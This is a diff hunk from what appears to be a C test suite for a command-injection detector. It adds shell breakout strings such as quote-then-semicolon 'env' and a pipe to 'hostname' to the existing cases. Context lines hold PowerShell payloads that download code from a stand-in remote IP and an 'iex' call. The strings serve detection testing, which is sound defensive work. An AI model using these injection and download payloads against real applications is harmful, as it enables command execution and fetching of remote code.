@@ -686,6 +686,12 @@ static void second_round(void)
     STRONG("x;$w=New-Object Net.WebClient;$w.DownloadFile('http://203.0.113.5/a','a')",
            "ps:");
     STRONG("$c.DownloadString('http://203.0.113.5/')", "ps:$var.");
+    /* a quote or a parenthesis that closes the application's own, then
+     * a list operator: the command after it, even an English word */
+    STRONG("';env", "sh:;env");
+    STRONG("\"|hostname", "sh:|hostname");
+    STRONG(")&&env", "sh:&&env");
+    NONE("x;env");
     /* a PowerShell command called or given a script block after a
      * separator; an alias made for a command */
     STRONG("x;iex(whoami)", "ps:;iex");
